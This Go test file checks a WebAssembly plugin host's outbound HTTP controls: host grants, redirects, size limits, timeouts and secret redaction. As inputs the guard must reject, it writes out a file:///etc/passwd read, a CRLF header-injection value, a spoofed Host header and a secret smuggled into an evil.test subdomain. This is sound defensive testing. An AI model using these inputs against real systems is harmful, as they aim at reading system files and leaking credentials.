package wasm

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/awaken-agents/awaken-host/batch"
	"github.com/awaken-agents/awaken-host/plugins"
	"github.com/awaken-agents/awaken-host/plugins/egress"
)

// website is a real server on loopback; by is how it is reached as a granted host.
type website struct {
	url, by string
	hits    atomic.Int32
}

func newWebsite(t *testing.T) *website {
	t.Helper()
	w := &website{}
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.hits.Add(1)
		switch r.URL.Path {
		case "/echo":
			body, _ := io.ReadAll(r.Body)
			rw.Header().Set("X-Seen", r.Method+" "+r.Header.Get("X-Key"))
			rw.WriteHeader(http.StatusTeapot)
			_, _ = rw.Write(body)
		case "/to":
			http.Redirect(rw, r, r.URL.Query().Get("url"), http.StatusFound)
		case "/large":
			_, _ = io.Copy(rw, io.LimitReader(zeros{}, 20<<20))
		case "/slow":
			<-r.Context().Done()
		case "/empty":
			rw.WriteHeader(http.StatusNoContent)
		default:
			fmt.Fprint(rw, "hello")
		}
	}))
	t.Cleanup(func() { srv.CloseClientConnections(); srv.Close() })
	w.url = strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	w.by = w.url
	return w
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// reaching grants hosts to a plugin, as loading it with a grant would.
func reaching(p *plugins.Plugin, hosts ...string) *plugins.Plugin {
	p.Manifest.Capabilities.Hosts, p.Effective.Hosts = hosts, hosts
	return p
}

func fetcher(t *testing.T, edit ...func(*plugins.ToolSpec)) *plugins.Plugin {
	return newPlugin(guest(t, "fetch"), plugins.ABIExtism, tool("fetch", edit...), tool("text", append(edit, encoding("json", "text"))...))
}

func request(url string) string {
	b, _ := json.Marshal(map[string]string{"url": url})
	return string(b)
}

// A plugin built with a PDK as it is reaches what it is granted, and no more.
func TestGuestHTTP(t *testing.T) {
	w := newWebsite(t)
	var log bytes.Buffer
	r := newRuntime(t, Options{Logger: logTo(&log), CompileTimeout: 5 * time.Minute})
	g := newRig(t, r, reaching(fetcher(t), w.by))
	good(t, g.call("text", request(w.url+"/")), "hello")
	out := g.call("fetch", `{"method":"POST","url":"`+w.url+`/echo","headers":{"X-Key":"k-secret"},"body":"b-secret"}`)
	var got struct {
		Status  int
		Headers map[string]string
		Body    string
	}
	if err := json.Unmarshal([]byte(out.Text()), &got); err != nil || got.Status != 418 || got.Body != "b-secret" || got.Headers["x-seen"] != "POST k-secret" {
		t.Errorf("got %s, %v", out.Text(), err)
	}
	out = g.call("fetch", request(w.url+"/empty"))
	if err := json.Unmarshal([]byte(out.Text()), &got); err != nil || got.Status != 204 || got.Body != "" {
		t.Errorf("got %s, %v", out.Text(), err)
	}
	for _, want := range []string{"method=POST", "host=http://localhost:", "status=418", "received=8", "sent=8", "ms=", "plugin=t", "operation=run/", "tool=t__fetch"} {
		if !strings.Contains(log.String(), want) {
			t.Errorf("the log does not say %q", want)
		}
	}
	for _, never := range []string{"secret", "/echo", "X-Key"} {
		if strings.Contains(log.String(), never) {
			t.Errorf("the log says %q", never)
		}
	}

	// Redirects, and what is not granted.
	before := w.hits.Load()
	other := strings.Replace(w.url, "localhost", "127.0.0.1", 1)
	bad(t, g.call("text", request(other)), "tool t__text may not reach "+other+": the manifest of plugin t does not ask for it")
	bad(t, g.call("text", request("https://localhost")), "may not reach localhost:443")
	if w.hits.Load() != before {
		t.Error("the server was reached all the same")
	}
	bad(t, g.call("text", request(w.url+"/to?url="+url.QueryEscape(other))), "may not reach "+other+", where "+w.by+" redirects to")
	if w.hits.Load() != before+1 {
		t.Error("the redirect was followed")
	}
	for _, m := range []string{"CONNECT", "TRACE"} {
		bad(t, g.call("text", `{"method":"`+m+`","url":"`+w.url+`"}`), "got no answer over HTTP", "method", m)
	}
	bad(t, g.call("text", `{"url":"`+w.url+`","headers":{"Host":"evil.test"}}`), "the header Host cannot name another host")
	bad(t, g.call("text", `{"url":"`+w.url+`","headers":{"X":"a\r\nY: b"}}`), "a character that no header may have")
	bad(t, g.call("text", request("file:///etc/passwd")), "only URLs that begin with https:// or http://")
}

// Denied, granted, denied to the sibling, and taken away again.
func TestGuestHTTPByGrant(t *testing.T) {
	w := newWebsite(t)
	r := newRuntime(t, Options{})
	p := fetcher(t)
	p.Manifest.Capabilities.Hosts = []string{w.by, "*.example.test"}
	denied := "tool t__text may not reach " + w.by + ": the operator has not granted it; to do so, add hosts = [\"" + w.by + "\"] to [plugin.grant] of plugin t"
	bad(t, newRig(t, r, p).call("text", request(w.url)), denied)
	granted := *p
	granted.Effective.Hosts = []string{w.by}
	g := newRig(t, r, &granted)
	good(t, g.call("text", request(w.url)), "hello")
	bad(t, newRig(t, r, p).call("text", request(w.url)), denied)

	// A policy's grant narrows, and what it names beyond is nothing.
	by := func(hosts ...string) func(*batch.Call) {
		return func(c *batch.Call) { c.Grant = &batch.Grant{Hosts: hosts} }
	}
	good(t, g.call("text", request(w.url), by(w.by, "evil.test")), "hello")
	good(t, g.call("text", request(w.url), func(c *batch.Call) { c.Grant = &batch.Grant{MemoryMiB: 30} }), "hello")
	for _, hosts := range [][]string{{}, {"evil.test"}, {"*"}, {"*.localhost"}} {
		bad(t, g.call("text", request(w.url), by(hosts...)), "may not reach "+w.by+": the policy does not grant it to this call")
	}
	bad(t, g.call("text", request("https://evil.test"), by("evil.test")), "may not reach evil.test:443")
	bad(t, g.call("text", request("https://a.example.test"), by("a.example.test")), "the operator has not granted it")
}

func TestGuestHTTPLimits(t *testing.T) {
	w := newWebsite(t)
	guard, err := egress.New(egress.Options{MaxRequestBytes: 1000, MaxResponseBytes: 64 << 20, Timeout: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	p := reaching(fetcher(t), w.by)
	p.Effective.MemoryMiB, p.Effective.Timeout = 16, 2*time.Second
	g := newRig(t, newRuntime(t, Options{Egress: guard}), p)
	bad(t, g.call("text", request(w.url+"/large")), "larger than the", "bytes of memory that are left")
	bad(t, g.call("text", `{"method":"POST","url":"`+w.url+`","body":"`+strings.Repeat("a", 1001)+`"}`), "1001 bytes, at most 1000 are allowed ([egress].request_mib)")
	begun := time.Now()
	p.Effective.Timeout = 300 * time.Millisecond
	bad(t, g.call("text", request(w.url+"/slow")), "ran longer than its timeout of 300ms")
	if took := time.Since(begun); took > 5*time.Second {
		t.Errorf("it took %s", took)
	}
}

// A request that fails ends the instance, and an answer ends with its call.
func TestGuestHTTPLeavesNothing(t *testing.T) {
	w := newWebsite(t)
	p := reaching(newPlugin(guest(t, "guest"), plugins.ABIExtism,
		tool("fetch", encoding("text:request", "text"), isolation(plugins.IsolationShared)), tool("fetch_left", isolation(plugins.IsolationShared)),
		tool("count_static", isolation(plugins.IsolationShared))), w.by)
	g := newRig(t, newRuntime(t, Options{}), p)
	args, _ := json.Marshal(map[string]string{"request": request(w.url)})
	good(t, g.call("fetch", string(args)), "hello")
	good(t, g.call("fetch_left", `{}`), `"clean"`)
	good(t, g.call("count_static", `{}`), "1")
	good(t, g.call("count_static", `{}`), "2")
	for _, bare := range []string{"", "null", "[]", `{"url":1}`, `{"headers":{"a":1}}`, "{", `{"url":""}`} {
		args, _ := json.Marshal(map[string]string{"request": bare})
		bad(t, g.call("fetch", string(args)), "HTTP")
	}
	good(t, g.call("count_static", `{}`), "1")
}

// Extism's own function is in no module that runs, and ours has no name there.
func TestReroute(t *testing.T) {
	for _, name := range []string{"guest", "fetch"} {
		b := guest(t, name)
		m, err := parseModule(b)
		if err != nil {
			t.Fatal(err)
		}
		code, err := m.reroute(b)
		if err != nil {
			t.Fatal(err)
		}
		after, err := parseModule(code)
		if err != nil {
			t.Fatal(err)
		}
		if len(after.imports) != len(m.imports) {
			t.Fatalf("%s: %d imports became %d", name, len(m.imports), len(after.imports))
		}
		for i, imp := range after.imports {
			want := m.imports[i]
			if ours := want.rerouted(); ours != "" {
				want.module, want.name = extismUser, ours
			}
			if imp != want {
				t.Errorf("%s: import %d is %v, want %v", name, i, imp, want)
			}
		}
	}
	none := []byte("\x00asm\x01\x00\x00\x00")
	if code, err := (&module{}).reroute(none); err != nil || !bytes.Equal(code, none) {
		t.Errorf("got %x, %v", code, err)
	}
	err := checkImports(&module{imports: []importRef{{module: extismUser, name: httpFunction, kind: "function", sig: "i64,i64>i64"}}}, &plugins.Manifest{Module: plugins.Module{ABI: plugins.ABIExtism}})
	if err == nil || !strings.Contains(err.Error(), extismUser+"."+httpFunction) {
		t.Errorf("got %v", err)
	}
}

// A secret goes where the plugin sends it, and neither into the log nor, by way of a
// host's name, into a result.
func TestGuestHTTPAndSecrets(t *testing.T) {
	const secret = "AbC-123-Xyz-789"
	known := &plugins.Redactor{}
	known.Add("API_TOKEN", []byte(secret))
	w := newWebsite(t)
	var log bytes.Buffer
	g := newRig(t, newRuntime(t, Options{Logger: logTo(&log), Redactor: known, CompileTimeout: 5 * time.Minute}), reaching(fetcher(t), w.by))
	good(t, g.call("text", request(w.url+"/?key="+secret)), "hello")
	echoed := g.call("fetch", `{"url":"`+w.url+`/echo","headers":{"X-Key":"`+secret+`"}}`)
	if echoed.IsError || !strings.Contains(echoed.Text(), "GET [redacted:API_TOKEN]") {
		t.Errorf("got %s", echoed.Text())
	}
	out := g.call("text", request("https://"+secret+".evil.test/"))
	bad(t, out, "may not reach a host that has the value of the secret API_TOKEN in its name")
	for where, text := range map[string]string{"the log": log.String(), "the result": out.Text(), "the answer": echoed.Text()} {
		if strings.Contains(strings.ToLower(text), strings.ToLower(secret)) {
			t.Errorf("%s shows the secret", where)
		}
	}
}
